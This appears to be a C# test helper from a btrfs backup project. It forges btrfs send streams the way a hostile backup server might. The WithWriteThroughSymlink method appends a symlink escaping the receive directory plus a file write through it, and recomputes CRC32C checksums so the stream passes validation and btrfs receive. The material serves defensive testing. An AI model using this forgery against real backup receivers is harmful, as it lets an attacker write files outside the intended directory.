using System.Buffers.Binary;
using System.Text;
using BtrfsSend.Core.Btrfs;

namespace BtrfsSend.TestSupport;

/// <summary>
/// Rewrites a real <c>btrfs send</c> stream (protocol 1) the way a hostile backup server holding
/// the public key could: commands are appended before END and every command's CRC32C is
/// recomputed, so the result passes the project's send-stream validator and btrfs receive's own
/// checks. Layout: 17-byte header (<c>btrfs-stream\0</c> + le32 version), then per command le32
/// payload length, le16 type, le32 CRC32C (seed 0, no final inversion, over the header with the
/// CRC zeroed and the payload), and the payload as TLV attributes (le16 type, le16 length).
/// </summary>
public static class SendStreamForge
{
    public const ushort Mkfile = 3;
    public const ushort Symlink = 8;
    public const ushort Write = 15;
    public const ushort End = 21;

    public const ushort AttrIno = 3;
    public const ushort AttrPath = 15;
    public const ushort AttrPathLink = 17;
    public const ushort AttrFileOffset = 18;
    public const ushort AttrData = 19;

    /// <summary>
    /// <paramref name="stream"/> with, before its END: <c>symlink esc -&gt; <paramref name="outsideDirPath"/></c>,
    /// <c>mkfile esc/<paramref name="fileName"/></c> and a write of <paramref name="content"/> into it.
    /// </summary>
    public static byte[] WithWriteThroughSymlink(byte[] stream, string outsideDirPath, string fileName, byte[] content)
    {
        var (version, commands) = Parse(stream);
        if (version != 1)
        {
            throw new ArgumentException($"only protocol 1 streams are rewritten (this one is {version})", nameof(stream));
        }

        var end = commands[^1];
        if (end.Type != End)
        {
            throw new ArgumentException("the stream does not end with END", nameof(stream));
        }

        var target = "esc/" + fileName;
        var forged = commands.Take(commands.Count - 1).ToList();
        forged.Add(new Command(Symlink, [Attr(AttrPath, "esc"), Attr(AttrIno, U64(900_001)), Attr(AttrPathLink, outsideDirPath)]));
        forged.Add(new Command(Mkfile, [Attr(AttrPath, target), Attr(AttrIno, U64(900_002))]));
        forged.Add(new Command(Write, [Attr(AttrPath, target), Attr(AttrFileOffset, U64(0)), (AttrData, content)]));
        forged.Add(end);
        return Build(version, forged);
    }

    /// <summary>Splits a stream into its commands (type and attributes); throws on anything malformed.</summary>
    public static (uint Version, List<Command> Commands) Parse(byte[] stream)
    {
        if (stream.Length < SendStreamValidator.StreamHeaderLength || !stream.AsSpan(0, 13).SequenceEqual("btrfs-stream\0"u8))
        {
            throw new ArgumentException("not a btrfs send stream", nameof(stream));
        }

        var version = BinaryPrimitives.ReadUInt32LittleEndian(stream.AsSpan(13));
        var commands = new List<Command>();
        var at = SendStreamValidator.StreamHeaderLength;
        while (at < stream.Length)
        {
            var length = (int)BinaryPrimitives.ReadUInt32LittleEndian(stream.AsSpan(at));
            var type = BinaryPrimitives.ReadUInt16LittleEndian(stream.AsSpan(at + 4));
            var payload = stream.AsSpan(at + SendStreamValidator.CommandHeaderLength, length);
            var attributes = new List<(ushort, byte[])>();
            for (var p = 0; p < payload.Length;)
            {
                var attrType = BinaryPrimitives.ReadUInt16LittleEndian(payload[p..]);
                var attrLength = BinaryPrimitives.ReadUInt16LittleEndian(payload[(p + 2)..]);
                attributes.Add((attrType, payload.Slice(p + 4, attrLength).ToArray()));
                p += 4 + attrLength;
            }

            commands.Add(new Command(type, attributes));
            at += SendStreamValidator.CommandHeaderLength + length;
        }

        return (version, commands);
    }

    /// <summary>Lays the commands out again, each with its CRC32C recomputed.</summary>
    public static byte[] Build(uint version, IEnumerable<Command> commands)
    {
        using var output = new MemoryStream();
        output.Write("btrfs-stream\0"u8);
        Span<byte> word = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32LittleEndian(word, version);
        output.Write(word);
        foreach (var command in commands)
        {
            using var payload = new MemoryStream();
            foreach (var (type, value) in command.Attributes)
            {
                var tlv = new byte[4];
                BinaryPrimitives.WriteUInt16LittleEndian(tlv, type);
                BinaryPrimitives.WriteUInt16LittleEndian(tlv.AsSpan(2), checked((ushort)value.Length));
                payload.Write(tlv);
                payload.Write(value);
            }

            var bytes = new byte[SendStreamValidator.CommandHeaderLength + payload.Length];
            BinaryPrimitives.WriteUInt32LittleEndian(bytes, (uint)payload.Length);
            BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(4), command.Type);
            payload.ToArray().CopyTo(bytes, SendStreamValidator.CommandHeaderLength);
            BinaryPrimitives.WriteUInt32LittleEndian(bytes.AsSpan(6), SendStreamValidator.Crc32C(0, bytes));
            output.Write(bytes);
        }

        return output.ToArray();
    }

    private static (ushort, byte[]) Attr(ushort type, string value) => (type, Encoding.UTF8.GetBytes(value));

    private static (ushort, byte[]) Attr(ushort type, byte[] value) => (type, value);

    private static byte[] U64(ulong value)
    {
        var bytes = new byte[8];
        BinaryPrimitives.WriteUInt64LittleEndian(bytes, value);
        return bytes;
    }

    /// <summary>One send-stream command: its type and its attributes in order.</summary>
    public sealed record Command(ushort Type, IReadOnlyList<(ushort Type, byte[] Value)> Attributes);
}
